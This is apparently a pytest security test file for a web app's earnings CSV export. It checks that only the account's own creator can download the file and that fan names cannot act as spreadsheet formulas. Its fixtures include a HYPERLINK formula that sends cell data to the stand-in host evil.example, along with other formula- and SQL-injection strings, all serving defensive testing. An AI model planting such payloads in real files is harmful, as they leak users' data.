"""The earnings as a file: the creator's own, to nobody else, and nothing in it that a spreadsheet would run."""

import csv
import io

import httpx
import pytest
from sqlmodel import Session

from onetoone import routes
from onetoone.models import Account
from tests import factories
from tests.security.conftest import World

FORMULA = '=HYPERLINK("https://evil.example?"&A1,"win")'


async def asks(world: World, cookie: str = "", query: str = "", language: str = "en") -> httpx.Response:
    headers = {"Accept-Language": language} | ({"Cookie": cookie} if cookie else {})
    async with httpx.AsyncClient(base_url=world.base, headers=headers, timeout=60) as http:
        return await http.get(routes.EARNINGS_FILE + query)


def rows(answer: httpx.Response) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))


async def test_visitors_fans_and_ended_sessions_find_nothing(world: World) -> None:
    with Session(world.engine) as session:
        ended = factories.expired(session, session.get_one(Account, world.mara.id))
        session.commit()
    for cookie in ("", world.cookie(world.leo), ended, "onetoone=made-up"):
        assert (await asks(world, cookie)).status_code == 404


async def test_a_creator_gets_their_own_and_nobody_elses(world: World) -> None:
    mine, theirs = await asks(world, world.cookie(world.mara)), await asks(world, world.cookie(world.theo))
    assert [row["With"] for row in rows(mine)] == ["Leo"]
    assert (rows(mine)[0]["Gross"], rows(mine)[0]["Net"]) == ("25.00", "20.00")
    assert rows(theirs) == []
    assert mine.headers["content-type"] == "text/csv; charset=utf-8"
    assert mine.headers["content-disposition"] == 'attachment; filename="earnings.csv"'
    assert mine.headers["cache-control"] == "no-store"


async def test_it_is_in_the_readers_language_and_still_no_formula(world: World) -> None:
    with Session(world.engine, expire_on_commit=False) as session:
        creator = factories.creator(session, "Wary")
        call = factories.call(session, creator, factories.fan(session, FORMULA))
        factories.payment(session, call, captured=2500)
        session.commit()
        cookie = world.cookie(creator)
    answer = await asks(world, cookie, language="de-AT,de;q=0.9")
    assert answer.content.startswith(b"\xef\xbb\xbf"), "spreadsheets would take it for something else than UTF-8"
    [row] = rows(answer)
    assert (row["Art"], row["Was"], row["Wo es ist"]) == ("Anruf", "Videoanruf, 10 Min.", "Ausstehend")
    assert (row["Brutto"], row["Plattformgebühr"], row["Netto"]) == ("25.00", "-5.00", "20.00")
    assert row["Mit"] == f"'{FORMULA}"
    assert not any(cell.startswith(("=", "+", "@")) for line in csv.reader(io.StringIO(answer.text)) for cell in line)


@pytest.mark.parametrize("query", ["?kind=x", "?period=x", "?kind=all&period=-1", "?period=30%27--"])
async def test_what_is_no_filter_is_refused(world: World, query: str) -> None:
    assert (await asks(world, world.cookie(world.mara), query)).status_code == 404


@pytest.mark.parametrize("name", [FORMULA, "+1", "-2+3", "@SUM(A1)", "  =1", "\t=1", "a,b\r\n=1"])
async def test_no_name_is_a_formula(world: World, name: str) -> None:
    with Session(world.engine, expire_on_commit=False) as session:
        creator = factories.creator(session, "Wary")
        fan = factories.fan(session, "Sly")
        fan.name = name
        factories.payment(session, factories.call(session, creator, fan), captured=2500)
        session.commit()
        cookie = world.cookie(creator)
    [row] = rows(await asks(world, cookie))
    assert not row["With"].lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))
    assert name in row["With"]
